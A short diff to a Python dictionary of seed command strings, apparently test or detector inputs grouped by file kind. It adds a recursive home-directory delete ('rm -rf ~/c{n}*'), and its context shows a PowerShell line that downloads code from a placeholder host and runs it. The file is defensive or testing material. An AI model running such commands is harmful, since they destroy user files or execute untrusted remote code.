@@ -98,6 +98,7 @@ SEEDS: dict[FileKind, list[str]] = {
         "chmod +x /tmp/x{n}\n",
         "cp a /tmp/x{n}\n",
         "mv /tmp/a{n} /tmp/b{n}\n",
+        "rm -rf ~/c{n}*\n",
     ],
     FileKind.POWERSHELL: [
         "iex (iwr https://x.example/a)\n",
